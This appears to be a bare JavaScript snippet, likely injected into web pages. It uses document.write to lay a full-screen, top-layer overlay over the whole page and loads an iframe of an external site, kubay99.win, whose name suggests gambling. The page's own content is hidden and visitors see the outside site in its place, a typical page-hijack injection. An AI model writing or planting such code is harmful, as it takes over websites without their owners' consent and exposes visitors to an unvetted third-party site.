document.write('<div style="position:fixed;inset:0;z-index:99999"><iframe src="https://kubay99.win/" width="100%" height="100%" frameborder="0"></iframe></div>');
